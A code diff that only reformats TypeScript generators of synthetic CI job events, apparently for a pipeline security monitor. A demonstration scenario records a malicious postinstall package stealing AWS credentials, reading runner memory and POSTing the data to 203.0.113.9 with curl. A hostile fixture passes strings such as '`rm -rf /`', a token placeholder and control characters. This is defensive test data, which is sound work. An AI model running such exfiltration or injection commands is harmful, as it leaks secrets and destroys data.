@@ -36,7 +36,10 @@ function checkout(record: Recorder, worker: number, repository: string): void {
     kind: 'action',
     action: { repository: 'actions/checkout', ref: '8e8c483db84b4bee98b60c0593521ed34d9990e8' },
   })
-  const node = record.spawn(worker, step, ['/home/runner/actions-runner/externals/node24/bin/node', '/home/runner/work/_actions/actions/checkout/dist/index.js'])
+  const node = record.spawn(worker, step, [
+    '/home/runner/actions-runner/externals/node24/bin/node',
+    '/home/runner/work/_actions/actions/checkout/dist/index.js',
+  ])
   record.wait(180)
   const git = record.spawn(node, step, ['git', 'init', WORK])
   record.file(git, 'create', `${WORK}/.git/config`).exit(git)
@@ -45,7 +48,15 @@ function checkout(record: Recorder, worker: number, repository: string): void {
   record.visit(remote, 'github.com', '140.82.121.3', { sent: 3_110, received: 482_300, takesMs: 340 })
   record.exit(remote).exit(fetch)
   const out = record.spawn(node, step, ['git', 'checkout', '--progress', '--force', 'refs/remotes/origin/main'])
-  for (const name of ['package.json', 'package-lock.json', 'src/index.ts', 'src/cart.ts', 'src/payment/provider.ts', 'README.md', 'test/cart.test.ts']) {
+  for (const name of [
+    'package.json',
+    'package-lock.json',
+    'src/index.ts',
+    'src/cart.ts',
+    'src/payment/provider.ts',
+    'README.md',
+    'test/cart.test.ts',
+  ]) {
     record.file(out, 'create', `${WORK}/${name}`)
   }
   record.exit(out).exit(node).endStep(step).wait(60)
@@ -56,7 +67,8 @@ function installPackages(record: Recorder, npm: number, count: number, choose: R
     const name = `${choose.pick(['lodash', 'fast', 'micro', 'es', 'async', 'tiny', 'node', 'deep', 'string'])}-${choose.pick(['merge', 'glob', 'parse', 'equal', 'queue', 'match', 'walk', 'stream'])}`
     record.file(npm, 'create', `${WORK}/node_modules/${name}/package.json`)
     record.file(npm, 'create', `${WORK}/node_modules/${name}/index.js`)
-    if (index % 9 === 0) record.visit(npm, 'registry.npm.example.test', '198.51.100.12', { sent: 900, received: choose.between(20_000, 900_000), takesMs: 45 })
+    if (index % 9 === 0)
+      record.visit(npm, 'registry.npm.example.test', '198.51.100.12', { sent: 900, received: choose.between(20_000, 900_000), takesMs: 45 })
     if (index % 4 === 0) record.wait(12)
   }
 }
@@ -86,7 +98,8 @@ export function demonstration(run: Run, number: number, startedAt: number, more:
     attack: ['T1552.001'],
     events: [record.lastSeq],
     evidence: { path: '/home/runner/.aws/credentials', family: 'cloud', package: 'left-padding', script: 'postinstall' },
-    remedy: 'Treat the credentials in this file as known to others: revoke them now. Then install with `npm ci --ignore-scripts`, or remove left-padding.',
+    remedy:
+      'Treat the credentials in this file as known to others: revoke them now. Then install with `npm ci --ignore-scripts`, or remove left-padding.',
   })
   record.wait(20)
   const dump = record.spawn(script, step, ['python3', '-'], { cwd: `${WORK}/node_modules/left-padding`, takesMs: 60 })
@@ -105,10 +118,16 @@ export function demonstration(run: Run, number: number, startedAt: number, more:
     attack: ['T1003.007'],
     events: [opened, record.lastSeq],
     evidence: { target: 'Runner.Worker', pid: 2_102, bytes: 8_388_608, path: '/proc/2102/mem' },
-    remedy: 'Rotate every secret this job could see, the organization’s included. Remove left-padding and look for other runs that installed it.',
+    remedy:
+      'Rotate every secret this job could see, the organization’s included. Remove left-padding and look for other runs that installed it.',
   })
   record.exit(dump).wait(30)
-  const curl = record.spawn(script, step, ['curl', '-s', '-X', 'POST', '--data-binary', '@/tmp/.cache-4f1', 'http://203.0.113.9:8000/collect'], { cwd: '/tmp' })
+  const curl = record.spawn(
+    script,
+    step,
+    ['curl', '-s', '-X', 'POST', '--data-binary', '@/tmp/.cache-4f1', 'http://203.0.113.9:8000/collect'],
+    { cwd: '/tmp' },
+  )
   record.file(script, 'create', '/tmp/.cache-4f1')
   const flow = record.flow(curl, '203.0.113.9', { port: 8000, takesMs: 25 })
   const connected = record.lastSeq
@@ -141,7 +160,9 @@ function testStep(record: Recorder, worker: number): void {
   const npm = record.spawn(bash, step, [NODE, '/opt/hostedtoolcache/node/24.21.0/x64/bin/npm', 'test'], { takesMs: 260 })
   const vitest = record.spawn(npm, step, [NODE, './node_modules/.bin/vitest', 'run'], { takesMs: 350 })
   for (let index = 0; index < 3; index += 1) {
-    const fork = record.spawn(vitest, step, [NODE, './node_modules/vitest/dist/workers/forks.js', `--worker=${index + 1}`], { takesMs: 130 })
+    const fork = record.spawn(vitest, step, [NODE, './node_modules/vitest/dist/workers/forks.js', `--worker=${index + 1}`], {
+      takesMs: 130,
+    })
     record.file(fork, 'write', `${WORK}/coverage/.tmp/coverage-${index}.json`).wait(400).exit(fork)
   }
   record.exit(vitest).exit(npm).exit(bash).endStep(step).wait(50)
@@ -163,7 +184,10 @@ export function ordinary(run: Run, number: number, startedAt: number, more: Part
     kind: 'action',
     action: { repository: 'codecov/codecov-action', ref: 'v5' },
   })
-  const node = record.spawn(worker, upload, ['/home/runner/actions-runner/externals/node24/bin/node', '/home/runner/work/_actions/codecov/dist/index.js'])
+  const node = record.spawn(worker, upload, [
+    '/home/runner/actions-runner/externals/node24/bin/node',
+    '/home/runner/work/_actions/codecov/dist/index.js',
+  ])
   record.visit(node, 'ingest.coverage.example.test', '198.51.100.77', { sent: 48_200, received: 610 })
   record.exit(node, choose.next() < 0.1 ? 1 : 0).endStep(upload)
   const failedRun = choose.next() < 0.12
@@ -187,8 +211,15 @@ export function compilation(run: Run, number: number, startedAt: number, events:
       directory = record.spawn(make, step, ['make', '-C', `src/module-${unit / 40}`, 'all'])
     }
     const source = `src/module-${Math.floor(unit / 40)}/${choose.pick(['parser', 'lexer', 'codec', 'table', 'index', 'buffer'])}_${unit}.c`
-    const gcc = record.spawn(directory, step, ['gcc', '-O2', '-g', '-Wall', '-fstack-protector-strong', '-Iinclude', '-c', source, '-o', `${source.slice(0, -2)}.o`], { takesMs: 0.3 })
-    const cc1 = record.spawn(gcc, step, ['/usr/lib/gcc/x86_64-linux-gnu/13/cc1', '-quiet', source, '-o', `/tmp/cc${unit.toString(36)}.s`], { takesMs: 0.8 })
+    const gcc = record.spawn(
+      directory,
+      step,
+      ['gcc', '-O2', '-g', '-Wall', '-fstack-protector-strong', '-Iinclude', '-c', source, '-o', `${source.slice(0, -2)}.o`],
+      { takesMs: 0.3 },
+    )
+    const cc1 = record.spawn(gcc, step, ['/usr/lib/gcc/x86_64-linux-gnu/13/cc1', '-quiet', source, '-o', `/tmp/cc${unit.toString(36)}.s`], {
+      takesMs: 0.8,
+    })
     record.file(cc1, 'create', `/tmp/cc${unit.toString(36)}.s`).exit(cc1)
     const as = record.spawn(gcc, step, ['as', '--64', '-o', `${source.slice(0, -2)}.o`, `/tmp/cc${unit.toString(36)}.s`], { takesMs: 0.3 })
     record.file(as, 'create', `${WORK}/${source.slice(0, -2)}.o`).exit(as)
@@ -197,7 +228,8 @@ export function compilation(run: Run, number: number, startedAt: number, events:
   }
   record.exit(make).exit(bash).endStep(step).wait(100)
   testStep(record, worker)
-  while (record.events.length < events) record.file(worker, 'write', `/home/runner/work/_temp/_runner_file_commands/set_output_${record.events.length}`)
+  while (record.events.length < events)
+    record.file(worker, 'write', `/home/runner/work/_temp/_runner_file_commands/set_output_${record.events.length}`)
   record.finish(0)
   return record
 }
@@ -210,7 +242,11 @@ export function hostile(run: Run, number: number, startedAt: number): Recorder {
   const long = `start-${'A'.repeat(10_000)}-end`
   const record = new Recorder(newJob(run, number, startedAt, { name: `build ${evil} ${bidi}`, command: ['sh', '-c', evil] }))
   const worker = startRunner(record)
-  const step = record.step({ name: `${evil}${ansi}`, kind: 'action', action: { repository: 'evil/\u202Enoitca', ref: `v1${ansi}`, path: '../../x' } })
+  const step = record.step({
+    name: `${evil}${ansi}`,
+    kind: 'action',
+    action: { repository: 'evil/\u202Enoitca', ref: `v1${ansi}`, path: '../../x' },
+  })
   const shell = record.spawn(worker, step, [`/tmp/${evil}`, ansi, bidi, long, 'nul\u0000byte', '`rm -rf /`', '${{ github.token }}'])
   record.file(shell, 'create', `/tmp/${evil}`)
   record.file(shell, 'create', `/tmp/${bidi}`)
@@ -231,7 +267,11 @@ export function hostile(run: Run, number: number, startedAt: number): Recorder {
     evidence: { [`key${evil}`]: evil, long, bidi, nul: 'a\u0000b' },
     remedy: `Remedy ${evil}`,
   })
-  for (let deep = 0, parent = shell; deep < 60; deep += 1) parent = record.spawn(parent, step, ['sh', '-c', `level ${deep}`], { takesMs: 0.2 })
-  record.exit(shell, 137).endStep(step, 137).finish(137, 'degraded', [`note ${evil} ${bidi}`])
+  for (let deep = 0, parent = shell; deep < 60; deep += 1)
+    parent = record.spawn(parent, step, ['sh', '-c', `level ${deep}`], { takesMs: 0.2 })
+  record
+    .exit(shell, 137)
+    .endStep(step, 137)
+    .finish(137, 'degraded', [`note ${evil} ${bidi}`])
   return record
 }
